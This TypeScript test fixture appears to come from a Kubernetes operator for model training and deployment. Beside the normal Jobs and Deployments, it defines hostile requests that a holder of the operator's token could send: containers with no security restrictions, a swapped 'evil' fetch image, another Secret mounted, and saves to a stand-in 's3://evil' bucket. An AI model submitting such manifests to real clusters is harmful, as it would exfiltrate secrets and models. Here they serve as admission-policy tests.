/** What fetches and saves, in what the operator writes, and in what a thief of its token would make of it. */
import type { IDeployment } from 'kubernetes-models/apps/v1';
import type { IJob } from 'kubernetes-models/batch/v1';
import type { IContainer } from 'kubernetes-models/v1';
import { buildDeployment } from '../../../src/kinds/modeldeployment/revision/deployment.ts';
import { transferVariable } from '../../../src/workload/transfers.ts';
import { newJob } from '../../builders/job.ts';
import { modelDeployment, server } from '../../builders/modeldeployment.ts';
import { wholeInstallation as installation } from '../../builders/storageinstallations.ts';
import { trainingRun } from '../../builders/trainingrun.ts';
import { deployments, jobs, named, type Write } from './writes.ts';

const digest = `sha256:${'0123456789abcdef'.repeat(4)}`;
const secretRef = { name: 'bucket' };
const model = { uri: 's3://models/fraud', digest, digestSource: 'Measured' } as const;

const jobWith = (volume: object): IJob => {
  const storage = { secretRef, volume };
  const datasets = [
    { name: 'train', uri: 's3://data/train', digest },
    { name: 'words', uri: 'oci://registry/words:1' },
  ];
  const output = { uri: 's3://models/fraud' };
  const checkpoint = { uri: 'gs://checkpoints/fraud' };
  return newJob(trainingRun({ spec: { datasets, output, checkpoint, storage } }), { installation, storage });
};

const deploymentWith = (volume: object) =>
  buildDeployment({
    parent: modelDeployment({ spec: { server: { ...server, storage: { secretRef, volume } } } }),
    revision: '0a1b2c3d',
    model,
    profile: {},
    observerImage: 'flyball:1',
    replicas: 1,
    installation,
  }) as IDeployment;

const stored = jobWith({});
/** Of which a change is tried. */
export const storedDeployment = deploymentWith({ claimName: 'cache' });

const kept = {
  'in an emptyDir': { emptyDir: {} },
  'in a claim of its own': { ephemeral: { size: '9Gi' } },
  'in a cache': { claimName: 'cache' },
};

/** All that the operator writes. */
export const ordinaryStores: readonly Write[] = Object.entries(kept).flatMap(([where, volume]): Write[] => [
  {
    what: `a Job that fetches, restores and saves, ${where}`,
    method: 'POST',
    path: jobs(),
    body: named(jobWith(volume), 'fraud-9-train'),
  },
  {
    what: `a Deployment that fetches, ${where}`,
    method: 'POST',
    path: deployments(),
    body: named(deploymentWith(volume), 'fraud-9'),
  },
]);

/** A Job of ours with another container of one of these names. */
const jobWithOther = (name: string, more: object): object => {
  const changed = (all: readonly IContainer[] = []) =>
    all.map((one) => (one.name === name ? { ...one, ...more } : one));
  const { template } = stored.spec ?? {};
  const { containers = [], initContainers } = template?.spec ?? {};
  const spec = { ...template?.spec, containers: changed(containers), initContainers: changed(initContainers) };
  return named({ ...stored, spec: { ...stored.spec, template: { ...template, spec } } } as IJob, 'evil');
};

const unrestricted = ['fetch', 'verify', 'restore', 'checkpoint', 'main', 'save'].map((name) => ({
  what: `a \`${name}\` that is not restricted, beside a store`,
  method: 'POST' as const,
  path: jobs(),
  body: jobWithOther(name, { securityContext: {} }),
  refusedBy: 'pods',
}));

const fetching = (change: (one: IContainer) => object) => {
  const { initContainers = [] } = storedDeployment.spec?.template.spec ?? {};
  const changed = initContainers.map((one) => (one.name === 'fetch' ? { ...one, ...change(one) } : one));
  return { spec: { template: { spec: { initContainers: changed } } } };
};

const edited = Object.entries({
  'what a Deployment of ours fetches': fetching(({ args = [] }) => ({ args: ['s3://evil/model', ...args.slice(1)] })),
  'the digest of what a Deployment of ours fetches': fetching(({ env = [] }) => ({
    env: env.map((one) => (one.name === transferVariable ? { ...one, value: '{}' } : one)),
  })),
  'the image that fetches for a Deployment of ours': fetching(() => ({ image: 'evil' })),
  'the Secret with which a Deployment of ours fetches': fetching(() => ({ envFrom: [{ secretRef: { name: 'db' } }] })),
}).map(([what, body]) => ({
  what,
  method: 'PATCH' as const,
  path: `${deployments()}/stored`,
  body,
  refusedBy: 'updates',
}));

export const storeAttacks = [...unrestricted, ...edited];

/** What somebody who holds the operator's token can still do: as with any other container. */
export const remainingStores: readonly Write[] = [
  {
    what: 'a Job that saves by another image with the Secret of a run',
    method: 'POST',
    path: jobs(),
    body: jobWithOther('save', { image: 'evil' }),
  },
  {
    what: 'a Job that saves to another place with any Secret of the namespace',
    method: 'POST',
    path: jobs(),
    body: jobWithOther('save', {
      args: ['/flyball/storage/output', 's3://evil/a'],
      envFrom: [{ secretRef: { name: 'db' } }],
    }),
  },
];
